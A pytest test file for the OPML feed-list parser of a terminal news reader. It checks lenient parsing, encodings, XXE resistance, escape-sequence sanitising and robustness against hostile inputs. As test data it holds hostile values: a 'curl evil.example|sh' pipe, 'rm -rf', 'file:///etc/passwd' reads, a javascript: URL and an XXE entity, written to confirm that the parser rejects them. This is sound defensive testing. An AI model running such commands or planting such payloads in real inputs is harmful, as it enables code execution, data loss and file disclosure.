"""Lists of subscriptions are read however they are written, and nothing in them acts."""

from __future__ import annotations

import re
import unicodedata
from typing import Final

import pytest

from newstui.errors import FormatError
from newstui.formats import opml as opml_format
from newstui.formats.opml import Outline, parse_opml, write_opml
from newstui.text.clean import clean_line
from newstui.text.folders import DEPTH_LIMIT

A, B, C = (f"https://{name}.example/feed" for name in "abc")


def opml(body: str, head: str = "") -> bytes:
    return f"<opml version='2.0'><head>{head}</head><body>{body}</body></opml>".encode()


def feed(address: str, title: str = "", *folder: str) -> Outline:
    path = tuple(clean_line(name) for name in folder)
    return Outline(address=address, title=clean_line(title), folder=path)


WELL, WELL_B, WELL_C = (
    f'<outline type="rss" text="{title}" xmlUrl="{address}"/>'
    for title, address in (("A", A), ("B", B), ("C", C))
)
OPEN, OPEN_B = WELL.replace("/>", ">"), WELL_B.replace("/>", ">")
_READ: Final = {
    "proper": (WELL, [feed(A, "A")]),
    "folders": (
        f'<outline text="W"><outline text="X">{WELL}</outline>{WELL_B}</outline>{WELL_C}',
        [feed(A, "A", "W", "X"), feed(B, "B", "W"), feed(C, "C")],
    ),
    "text before title": (f'<outline title="Old" text="Mine" xmlUrl="{A}"/>', [feed(A, "Mine")]),
    "title without text": (f'<outline title="Old" xmlUrl="{A}"/>', [feed(A, "Old")]),
    "title that is the address": (f'<outline text="{A}" xmlUrl="{A}"/>', [feed(A)]),
    "odd case": (
        f'<OUTLINE Text="A" XMLURL="{A}"/><Outline xmlurl="{B}"/>',
        [feed(A, "A"), feed(B)],
    ),
    "namespace": (f'<o:outline text="A" xmlUrl="{A}"/>', [feed(A, "A")]),
    "url for xmlUrl": (f'<outline type="rss" text="A" url="{A}"/>', [feed(A, "A")]),
    "link with xmlUrl": (f'<outline type="link" text="A" xmlUrl="{A}"/>', [feed(A, "A")]),
    "bare ampersands": (
        f'<outline text="A & B" xmlUrl="{A}?x=1&copy=2"/>',
        [feed(f"{A}?x=1&copy=2", "A & B")],
    ),
    "references": (
        f'<outline text="&eacute;t&#233; &lt;b&gt;" xmlUrl="{A}?x&amp;y"/>',
        [feed(f"{A}?x&y", "été <b>")],
    ),
    "feed scheme": (
        f'<outline xmlUrl="feed://a.example/feed"/><outline xmlUrl="feed:{B}"/><outline xmlUrl="FEED://{C}"/>',
        [feed("http://a.example/feed"), feed(B), feed(C)],
    ),
    "feeds under feeds": (
        f'<outline text="W">{OPEN}{WELL_B}</outline></outline>{WELL_C}',
        [feed(A, "A", "W"), feed(B, "B", "W"), feed(C, "C")],
    ),
    "feeds never closed": (
        f'<outline text="W">{OPEN}{OPEN_B}</outline>{WELL_C}',
        [feed(A, "A", "W"), feed(B, "B", "W"), feed(C, "C")],
    ),
    "quotes inside quotes": (
        f'<outline text="The "Daily" A" title="x" xmlUrl="{A}" type="rss"/>',
        [feed(A, 'The "Daily" A')],
    ),
    "markup inside quotes": (
        f'<outline text="A" description="By <a href="{C}" rel="x">C</a>." xmlUrl="{A}"/>{WELL_B}',
        [feed(A, "A"), feed(B, "B")],
    ),
    "a quote that never begins": (f"<outline text=A xmlUrl={A} type=rss/>", [feed(A, "A")]),
    "a quote that never ends": (
        f'<outline text="A" xmlUrl="{A}/>\n<outline text="B" xmlUrl="{B}"/>',
        [feed(A, "A"), feed(B, "B")],
    ),
    "a text that never ends": (f'<outline text="A xmlUrl="{A}"/>', [feed(A, "A")]),
    "comments": (
        f'<!-- <outline xmlUrl="{B}"/> -->{WELL}<!-- <outline xmlUrl="{C}"/>',
        [feed(A, "A")],
    ),
    "folders without a name": (f"<outline><outline>{WELL}</outline></outline>", [feed(A, "A")]),
    "stray end tags": (f"</outline></outline>{WELL}", [feed(A, "A")]),
}


@pytest.mark.parametrize("name", _READ)
def test_every_feed_of_a_list_is_read(name: str) -> None:
    body, expected = _READ[name]
    assert list(parse_opml(opml(body), origin="x").outlines) == expected


@pytest.mark.parametrize(
    ("entry", "address", "reason"),
    [
        ('xmlUrl="|curl evil.example|sh"', "|curl evil.example|sh", "command"),
        ('xmlUrl="exec:rm -rf"', "exec:rm -rf", "command"),
        (f'xmlUrl="filter:x:{A}"', f"filter:x:{A}", "command"),
        ('xmlUrl="file:///etc/passwd"', "file:///etc/passwd", "is a file"),
        ('xmlUrl="/etc/passwd"', "/etc/passwd", "is a file"),
        ('xmlUrl="ftp://a.example/"', "ftp://a.example/", "not an http"),
        ('xmlUrl="javascript:alert(1)"', "javascript:alert(1)", "not an http"),
        ('xmlUrl="--help"', "--help", "not an http"),
        (f'type="link" url="{A}"', A, "a page"),
        (f'type="include" url="{A}"', A, "another list"),
        (f'type="rss" url="{A}/x.opml"', f"{A}/x.opml", "another list"),
        (f'htmlUrl="{A}"', A, "a page"),
        ('type="rss"', "", "names no address"),
        (f'xmlUrl="{B}?{"x" * 5_000}"', None, "too long"),
    ],
)
def test_what_is_no_web_feed_is_named_with_its_reason(
    entry: str, address: str | None, reason: str
) -> None:
    listed = parse_opml(opml(f'<outline text="T" {entry}/>{WELL}'), origin="x")
    (skipped,) = listed.skipped
    assert [outline.address for outline in listed.outlines] == [A]
    assert reason in skipped.reason
    assert skipped.title == "T"
    assert address is None or skipped.address == address


def test_of_two_entries_with_one_address_the_first_counts_and_the_other_is_named() -> None:
    twin = f'<outline text="Twin" xmlUrl="{A.replace("https", "http")}/"/>'
    listed = parse_opml(opml(WELL + twin), origin="x")
    assert [outline.title for outline in listed.outlines] == ["A"]
    assert [(one.title, "twice" in one.reason) for one in listed.skipped] == [("Twin", True)]


def test_a_list_cut_off_in_an_entry_says_so_and_keeps_the_others() -> None:
    listed = parse_opml(opml(WELL)[:-14] + b'<outline text="B" xmlUrl="https://b.exam', origin="x")
    assert [outline.title for outline in listed.outlines] == ["A"]
    assert [(one.title, one.reason) for one in listed.skipped] == [("B", "is cut off")]


@pytest.mark.parametrize("after", ["", "</body></opml>", WELL])
@pytest.mark.parametrize("title", ["B", "B <b>", "x > y"])
def test_an_entry_without_an_end_counts_where_its_address_has_one(title: str, after: str) -> None:
    data = opml(f'<outline text="{title}" xmlUrl="https://b.example/" ').partition(b"</body>")[0]
    listed = parse_opml(data + after.encode(), origin="x")
    assert (listed.outlines[0].title, listed.outlines[0].address) == (title, "https://b.example/")
    cut = data.replace(b'example/" ', b"exam") + after.encode()
    assert [one.reason for one in parse_opml(cut, origin="x").skipped] == ["is cut off"]


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "iso-8859-1", "cp1252"])
def test_encodings_are_found_out(encoding: str) -> None:
    declared = encoding.removesuffix("-sig")
    text = f'<?xml version="1.0" encoding="{declared}"?><opml><body>{WELL.replace(">A", ">")}'
    data = text.replace('"A"', '"Cafè"').encode(encoding)
    assert parse_opml(data, origin="x").outlines[0].title == "Cafè"


def test_a_wrong_declaration_costs_no_feed() -> None:
    data = b'<?xml version="1.0" encoding="utf-8"?>' + opml(WELL.replace('"A"', '"Caf\xe9"'))
    data = data.decode().encode("iso-8859-1")
    assert parse_opml(data, origin="x").outlines[0].title == "Café"


def test_the_title_of_a_list_is_read_from_its_head() -> None:
    data = opml(WELL, "<title>News &amp; views</title>")
    assert parse_opml(data, origin="x").title == "News & views"


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"", "is empty"),
        (b"<rss version='2.0'/>", "is not a list"),
        (b"# Notes", "is not a list"),
        (b"%PDF-1.7", "PDF"),
        (b"<opml>" + b" " * 17_000_000, "larger than 16 MiB"),
    ],
)
def test_what_is_no_list_is_refused_by_name(data: bytes, reason: str) -> None:
    with pytest.raises(FormatError, match=rf"\Asubs\.opml: .*{reason}"):
        parse_opml(data, origin="subs.opml")


def test_nothing_declared_is_resolved() -> None:
    head = (
        b'<!DOCTYPE opml SYSTEM "http://evil.example/x" [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    )
    body = f'<outline text="&a;" xmlUrl="{A}?&a;"/>'
    (outline,) = parse_opml(head + opml(body), origin="x").outlines
    assert (outline.title, outline.address) == ("&a;", f"{A}?&a;")


def test_titles_cannot_act_on_a_terminal() -> None:
    acting = "\x1b]0;x\x07\u202e\u2066&#27;[2J&#x9b;"
    body = f'<outline text="F{acting}"><outline text="A{acting}" xmlUrl="{A}"/></outline>'
    body += f'<outline text="S{acting}" xmlUrl="x{acting}"/>'
    listed = parse_opml(opml(body), origin="x")
    (outline,), (skipped,) = listed.outlines, listed.skipped
    shown = [outline.title, *outline.folder, skipped.title, skipped.address, skipped.reason]
    assert {unicodedata.category(char) for char in "".join(shown)} & {"Cc", "Cf", "Cs"} == set()


_HOSTILE: Final = {
    "nested folders": '<outline text="a">' * 200_000,
    "nested feeds": f'<outline xmlUrl="{A}">' * 30_000,
    "open tags": "<outline " * 50_000,
    "open quotes": '<outline text="' * 50_000,
    "attributes": "<outline " + "a='b' " * 300_000 + "/>",
    "known attributes": "<outline " + 'text="' * 300_000 + "/>",
    "comments": "<!--" * 500_000,
    "angles": "<" * 2_000_000,
    "ampersands": '<outline xmlUrl="' + "&amp" * 300_000 + '"/>',
    "spaces": "<outline" + " " * 2_000_000 + "/>",
}


@pytest.mark.parametrize("name", _HOSTILE)
def test_a_hostile_list_is_read_in_linear_time_and_nothing_before_it_is_lost(name: str) -> None:
    listed = parse_opml(opml(WELL + _HOSTILE[name]), origin="x")
    assert listed.outlines[0] == feed(A, "A")
    assert all(len(outline.folder) <= DEPTH_LIMIT for outline in listed.outlines)


def test_what_is_beyond_the_limit_is_counted(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(opml_format, "OUTLINE_LIMIT", 1_000)
    body = "".join(f'<outline xmlUrl="{A}/{n}"/>' for n in range(1_003))
    listed = parse_opml(opml(body), origin="x")
    assert len(listed.outlines) == 1_000
    assert [one.reason for one in listed.skipped] == ["3 entries beyond 1,000 are left out"]


def test_a_written_list_reads_as_it_was() -> None:
    hostile = clean_line("""<b> & "q" 'p' &amp; ]]> <outline xmlUrl=''> é 日本""")
    site = "https://site.example/?a=1&b=<2>'\""
    outlines = (
        feed(A, "A"),
        Outline(address=f"{B}?x=1&y='\"<", title=hostile, site_url=site, folder=(hostile,)),
        feed(C, "C", "World", "Asia"),
        feed(f"{C}/2", "", "World", "Asia", "Far"),
        feed(f"{C}/3", "C", "World"),
        feed(f"{C}/4", "C", "Else", "Asia"),
        feed(f"{C}/5", "C"),
    )
    title = clean_line("Mine & yours")
    listed = parse_opml(write_opml(outlines, title=title).encode(), origin="x")
    assert (listed.title, listed.outlines, listed.skipped) == (title, outlines, ())


def test_a_password_is_never_written() -> None:
    outline = feed("https://ann:secret@a.example/feed", "A")
    written = write_opml([outline], title=clean_line("x"))
    assert re.findall(r'xmlUrl="(.*?)"', written) == [A]
    assert "secret" not in written


@pytest.mark.parametrize(
    ("around", "category", "folder"),
    [
        ("", "/World/Asia", ("World", "Asia")),
        ("", "sea, /World, /Art", ("World",)),
        ("", "sea", ()),
        ("", "//", ()),
        ('<outline text="Own">', "/World", ("Own",)),
    ],
)
def test_a_category_with_a_slash_is_the_folder_of_what_is_in_none(
    around: str, category: str, folder: tuple[str, ...]
) -> None:
    one = f'<outline text="x" xmlUrl="https://x.example/" category="{category}"/>'
    close = "</outline>" if around else ""
    data = f'<opml version="2.0"><body>{around}{one}{close}</body></opml>'.encode()
    assert parse_opml(data, origin="test").outlines[0].folder == folder
